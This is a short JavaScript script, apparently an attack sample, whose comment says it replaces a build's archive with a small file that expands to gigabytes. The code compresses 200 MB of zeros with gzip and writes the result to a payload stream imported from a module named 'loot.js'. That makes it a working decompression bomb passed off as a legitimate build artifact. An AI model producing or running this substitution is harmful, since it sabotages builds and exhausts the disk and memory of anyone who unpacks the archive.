// Gives, in the place of the build's archive, a small one that unfolds to gigabytes.
// outcome: build
const { command, fs, payload } = require("./loot.js");
const zlib = require("zlib");

const stream = payload();
const bomb = zlib.gzipSync(Buffer.alloc(200_000_000));
fs.writeSync(stream, bomb);
process.exit(0);
